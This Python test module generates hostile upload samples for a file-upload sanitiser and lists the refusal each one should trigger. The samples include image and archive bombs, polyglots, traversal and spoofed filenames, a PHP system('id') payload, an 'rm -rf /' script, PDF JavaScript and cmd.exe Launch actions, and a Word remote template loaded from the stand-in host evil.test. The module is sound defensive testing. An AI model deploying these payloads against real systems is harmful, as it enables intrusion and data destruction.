"""Files that lie, explode, hide or carry too much; all made here, none stored.

Each case: what it is called, the name it claims, its bytes, and the error expected from
``clean_image`` and from ``clean_document`` (None: it is taken).
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import pillow_heif
from PIL import Image, PngImagePlugin

from core.uploads import refusals as r
from core.uploads.scanning import TEST_VIRUS

pillow_heif.register_heif_opener(thumbnails=False)

SECRET = b"37.3891,-6.1234 SECRET PLACE"
WORD_TYPES = (
    b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
OPEN_TEXT_TYPE = b"application/vnd.oasis.opendocument.text"


@dataclass(frozen=True)
class Case:
    title: str
    claims: str
    data: bytes
    as_image: type[r.FileRefused] | None
    as_document: type[r.FileRefused] | None


def picture(kind="JPEG", size=(60, 40), mode="RGB", colour="orange", **options) -> bytes:
    file = io.BytesIO()
    Image.new(mode, size, colour).save(file, kind, **options)
    return file.getvalue()


def png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_that_claims(width: int, height: int) -> bytes:
    """A few bytes that announce any number of pixels."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + png_chunk(b"IDAT", zlib.compress(bytes(1000)))
        + png_chunk(b"IEND", b"")
    )


def gif_that_claims(width: int, height: int) -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", width, height, 0x80, 0, 0)
        + b"\0\0\0\xff\xff\xff,"
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + b"\x02\x02D\x01\0;"
    )


def webp_that_claims(width: int, height: int) -> bytes:
    """The header of an extended WebP with its canvas size, and a tiny frame."""
    canvas = b"\x10\0\0\0" + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    frame = picture("WEBP", lossless=True)[12:]
    body = b"WEBPVP8X" + struct.pack("<I", 10) + canvas + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


def with_places() -> dict[str, bytes]:
    """The same photo in several formats, each telling where it was taken."""
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif[0x0112] = 6  # turned
    exif.get_ifd(0x8825).update({1: "N", 2: (37.0, 23.0, 20.0), 3: "W", 4: (6.0, 7.0, 24.0)})
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + SECRET + b"</x:xmpmeta>"
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SECRET.decode())
    text.add_itxt("XML:com.adobe.xmp", xmp.decode())
    heic = io.BytesIO()
    Image.new("RGB", (64, 48), "orange").save(heic, "HEIF", exif=exif.tobytes(), xmp=xmp)
    return {
        "JPEG": picture("JPEG", exif=exif, xmp=xmp, comment=SECRET),
        "PNG": picture("PNG", exif=exif, pnginfo=text),
        "WEBP": picture("WEBP", exif=exif, xmp=xmp),
        "AVIF": picture("AVIF", exif=exif, xmp=xmp),
        "GIF": picture("GIF", comment=SECRET),
        "HEIC": heic.getvalue(),
    }


def archive(parts: dict[str, bytes], *, kind=OPEN_TEXT_TYPE) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
        if kind:
            out.writestr("mimetype", kind)
        for name, content in parts.items():
            out.writestr(name, content)
    return file.getvalue()


def word(parts: dict[str, bytes] | None = None, *, types=WORD_TYPES) -> bytes:
    return archive({"[Content_Types].xml": types, **(parts or {})}, kind=None)


def locked_archive() -> bytes:
    data = bytearray(archive({"content.xml": b"x"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(mark, start)) >= 0:
            data[start + offset] |= 1
            start += 4
    return bytes(data)


def lying_archive() -> bytes:
    """An archive whose directory says a part is small while it is large."""
    data = bytearray(archive({"content.xml": bytes(5_000_000)}))
    start = data.rfind(b"PK\x01\x02")
    data[start + 24 : start + 28] = struct.pack("<I", 10)
    return bytes(data)


def pdf(objects: bytes = b"", *, end: bytes = b"%%EOF\n") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\n" + objects + b"trailer <<>>\n" + end


def packed_objects(content: bytes, *, filters: bytes = b"/FlateDecode") -> bytes:
    data = zlib.compress(content)
    head = b"2 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter %s /Length %d>>\n" % (
        filters,
        len(data),
    )
    return head + b"stream\n" + data + b"\nendstream\nendobj\n"


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>'
)
LINK = REMOTE_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
NOT = (r.NotAPicture, r.KindNotTaken)


def cases() -> list[Case]:
    return [*_pictures(), *_not_pictures(), *_archives(), *_pdfs(), *_texts()]


def _pictures() -> list[Case]:
    places = with_places()
    jpeg, png = picture("JPEG"), picture("PNG")
    frames = [Image.new("RGB", (50, 50), (0, 0, i * 80)) for i in range(3)]
    animated = picture("GIF", (50, 50), save_all=True, append_images=frames)
    moving = picture("WEBP", (50, 50), save_all=True, append_images=frames)
    text_bomb = (
        png[:33] + png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000))) + png[33:]
    )
    profile_bomb = (
        png[:33] + png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(9_000_000))) + png[33:]
    )
    return [
        *(
            Case(f"{kind} with place", "photo.jpg", data, None, None)
            for kind, data in places.items()
        ),
        Case("picture called program", "run.exe", jpeg, None, None),
        Case("JPEG called PNG", "photo.png", jpeg, None, None),
        Case("climbing name", "../../etc/passwd.jpg", jpeg, None, None),
        Case("climbing name of Windows", "..\\..\\boot.ini", jpeg, None, None),
        Case("name that turns direction", "photo\u202egpj.exe", jpeg, None, None),
        Case("name with zero byte", "photo.php\0.jpg", jpeg, None, None),
        Case("name of 300 letters", "a" * 300 + ".jpg", jpeg, None, None),
        Case("no name at all", "?", jpeg, None, None),
        Case("JPEG and HTML", "a.jpg", jpeg + HTML, None, None),
        Case("JPEG and ZIP", "a.jpg", jpeg + archive({"a.js": b"x"}), None, None),
        Case("GIF and script", "a.gif", picture("GIF") + b"=1;alert(1)//", None, None),
        Case("PNG and PHP", "a.php.png", png + b"<?php system('id'); ?>", None, None),
        Case("animated GIF", "a.gif", animated, None, None),
        Case("animated WebP", "a.webp", moving, None, None),
        Case("CMYK", "a.jpg", picture(mode="CMYK", colour=(9, 9, 9, 9)), None, None),
        Case("one pixel", "a.png", picture("PNG", (1, 1)), None, None),
        Case("PNG bomb", "a.png", png_that_claims(60000, 60000), r.TooManyPixels, r.TooManyPixels),
        Case(
            "PNG over bound", "a.png", png_that_claims(5001, 5000), r.TooManyPixels, r.TooManyPixels
        ),
        Case("thin PNG", "a.png", png_that_claims(1, 30_001), r.TooManyPixels, r.TooManyPixels),
        Case("GIF bomb", "a.gif", gif_that_claims(65535, 65535), r.TooManyPixels, r.TooManyPixels),
        Case(
            "WebP bomb", "a.webp", webp_that_claims(16000, 16000), r.TooManyPixels, r.TooManyPixels
        ),
        Case("PNG text bomb", "a.png", text_bomb, r.PictureDamaged, r.PictureDamaged),
        Case("PNG profile bomb", "a.png", profile_bomb, r.PictureDamaged, r.PictureDamaged),
        Case(
            "cut JPEG", "a.jpg", picture(size=(500, 500))[:-400], r.PictureDamaged, r.PictureDamaged
        ),
        Case("cut PNG", "a.png", png[:-30], r.PictureDamaged, r.PictureDamaged),
        Case("cut HEIC", "a.heic", places["HEIC"][:-50], *NOT),
        Case("PNG without data", "a.png", png[:33], *NOT),
    ]


def _not_pictures() -> list[Case]:
    return [
        Case("empty", "a.jpg", b"", r.EmptyFile, r.EmptyFile),
        Case("too large", "a.jpg", bytes(15 * 1024 * 1024 + 1), r.FileTooLarge, r.FileTooLarge),
        Case("SVG as PNG", "a.png", SVG, *NOT),
        Case("SVG with XML head", "a.png", b"<?xml version='1.0'?>" + SVG, *NOT),
        Case("HTML as PNG", "a.png", HTML, *NOT),
        Case("HTML after spaces", "a.jpg", b"\n \t " + HTML.lower(), *NOT),
        Case("script", "a.jpg", b"#!/bin/sh\nrm -rf /\n", *NOT),
        Case("program", "a.jpg", b"MZ\x90\0\x03\0\0\0" + bytes(200), *NOT),
        Case("BMP", "a.bmp", picture("BMP"), *NOT),
        Case("TIFF", "a.tif", picture("TIFF"), *NOT),
        Case("ICO", "a.ico", picture("ICO"), *NOT),
        Case("PostScript", "a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", *NOT),
        Case("RTF", "a.rtf", b"{\\rtf1 {\\object\\objdata 00}}", *NOT),
        Case("old Word", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), *NOT),
        Case(
            "picture signature only",
            "a.jpg",
            b"\xff\xd8\xff\xe0\0\x10JFIF\0",
            r.PictureDamaged,
            r.PictureDamaged,
        ),
        Case("test virus", "a.txt", TEST_VIRUS, r.NotAPicture, r.FileHarmful),
        Case("noise", "a.jpg", bytes(range(256)) * 40, *NOT),
    ]


def _archives() -> list[Case]:
    bomb = archive({f"{i}.xml": bytes(30_000_000) for i in range(2)})
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w") as out:
        for i in range(2001):
            out.writestr(f"{i}", b"")
    macro_types = WORD_TYPES.replace(b"document.main", b"document.macroEnabled.main")
    verdicts = [
        ("Word", "a.docx", word({"word/document.xml": b"<w/>"}), None),
        ("Word with a link", "a.docx", word({"word/_rels/document.xml.rels": LINK}), None),
        ("OpenDocument", "a.odt", archive({"content.xml": b"<x/>"}), None),
        ("ZIP of things", "a.zip", archive({"a.txt": b"hello"}, kind=None), r.KindNotTaken),
        ("macro", "a.docx", word({"word/vbaProject.bin": b"x"}), r.FileActive),
        ("macro by type", "a.docx", word(types=macro_types), r.FileActive),
        ("OpenDocument macro", "a.odt", archive({"Basic/Standard/a.xml": b"x"}), r.FileActive),
        (
            "remote template",
            "a.docx",
            word({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
            r.FileActive,
        ),
        ("object inside", "a.docx", word({"word/embeddings/oleObject1.bin": b"x"}), r.FileActive),
        ("program inside", "a.odt", archive({"Pictures/cat.EXE": b"MZ"}), r.FileActive),
        ("virus inside", "a.odt", archive({"content.xml": TEST_VIRUS}), r.FileHarmful),
        ("archive bomb", "a.odt", bomb, r.FileUnpacksTooLarge),
        ("2001 parts", "a.odt", stored.getvalue(), r.FileUnpacksTooLarge),
        ("climbing part", "a.odt", archive({"../../evil": b"x"}), r.FileDamaged),
        ("absolute part", "a.odt", archive({"/etc/passwd": b"x"}), r.FileDamaged),
        ("locked archive", "a.odt", locked_archive(), r.FileLocked),
        ("lying archive", "a.odt", lying_archive(), r.FileDamaged),
        ("cut archive", "a.docx", word()[:-30], r.FileDamaged),
    ]
    return [
        Case(title, name, data, r.NotAPicture, verdict) for title, name, data, verdict in verdicts
    ]


def _pdfs() -> list[Case]:
    program = b"2 0 obj\n<</S /JavaScript /JS (app.alert(1))>>\nendobj\n"
    verdicts = [
        ("PDF", pdf(), None),
        ("PDF with packed objects", pdf(packed_objects(b"<</Type /Page>>")), None),
        ("PDF program", pdf(program), r.FileActive),
        ("PDF program in disguise", pdf(program.replace(b"avaS", b"#61va#53")), r.FileActive),
        ("PDF packed program", pdf(packed_objects(program)), r.FileActive),
        (
            "PDF packed twice",
            pdf(packed_objects(b"", filters=b"[/ASCIIHexDecode /FlateDecode]")),
            r.FileDamaged,
        ),
        ("PDF launches", pdf(b"2 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"), r.FileActive),
        ("PDF with a file inside", pdf(b"2 0 obj\n<</Type/EmbeddedFile>>\nendobj\n"), r.FileActive),
        ("PDF locked", pdf(b"trailer <</Encrypt 5 0 R>>\n"), r.FileLocked),
        ("PDF bomb", pdf(packed_objects(bytes(60_000_000))), r.FileUnpacksTooLarge),
        ("PDF cut", pdf(end=b""), r.FileDamaged),
        ("PDF cut in a stream", pdf(b"2 0 obj\n<<>>\nstream\nabc"), r.FileDamaged),
        ("PDF and ZIP", pdf() + archive({"a.js": b"x"}), r.FileDamaged),
        ("HTML before PDF", HTML + pdf(), r.KindNotTaken),
    ]
    return [Case(title, "a.pdf", data, r.NotAPicture, verdict) for title, data, verdict in verdicts]


def _texts() -> list[Case]:
    verdicts = [
        ("text", "a.txt", "Olá, señora, مرحبا\n".encode(), None),
        ("old text", "a.txt", "señora".encode("cp1252"), None),
        ("table", "a.csv", b"a;b\n1;2\n", None),
        ("text with zero byte", "a.txt", b"a\0b", r.KindNotTaken),
        ("bytes of no text", "a.txt", b"caf\x81", r.KindNotTaken),
    ]
    return [
        Case(title, name, data, r.NotAPicture, verdict) for title, name, data, verdict in verdicts
    ]
